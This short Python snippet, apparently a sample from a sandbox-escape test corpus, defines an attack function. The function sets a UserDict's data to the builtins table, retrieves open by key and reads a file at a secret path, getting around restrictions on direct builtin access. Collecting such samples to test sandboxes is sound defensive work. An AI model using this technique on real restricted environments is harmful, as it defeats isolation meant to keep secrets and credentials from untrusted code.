# A dict of one's own whose data is the table of builtins.
from collections import UserDict


def attack(secret_path):
    one = UserDict()
    one.data = __builtins__
    return one["open"](secret_path).read()
